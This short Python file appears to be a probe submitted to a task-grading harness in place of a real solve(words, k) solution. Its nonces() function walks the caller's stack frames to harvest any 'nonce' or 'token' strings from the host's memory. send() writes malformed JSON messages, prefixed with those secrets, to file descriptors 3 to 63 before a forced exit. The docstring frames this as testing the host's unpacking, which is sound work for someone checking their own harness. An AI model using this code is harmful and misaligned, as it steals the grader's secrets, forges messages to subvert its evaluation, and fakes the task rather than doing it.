"""Send packed values whose insides have the wrong type.

Why: each raises something else on the host: TypeError, IndexError, AttributeError.
Seen: not seen; found by reading our own unpacking
"""

import os
import sys


def nonces():
    frame = sys._getframe(1)
    while frame:
        for scope in (frame.f_locals, frame.f_globals):
            for name, thing in list(scope.items()):
                for key, text in thing.items() if type(thing) is dict else ((name, thing),):
                    if type(text) in (str, bytes) and ("nonce" in str(key) or "token" in str(key)):
                        yield text if type(text) is bytes else text.encode()
        frame = frame.f_back


def send(*lines):
    for nonce in set(nonces()):
        for fd in range(3, 64):
            try:
                for line in lines:
                    os.write(fd, nonce + line + b"\n")
            except OSError:
                continue


def solve(words, k):
    send(
        b'{"value": {"int": 5}}',
        b'{"value": {"complex": []}}',
        b'{"value": {"dict": 7}}',
        b'{"value": {"tuple": null}}',
        b'{"value": {"bytes": [1]}}',
        b'{"value": {"float": [1]}}',
        b'{"value": {"dict": [[1]]}}',
        b'{"value": {}}',
        b"[]",
        b"7",
    )
    os._exit(0)
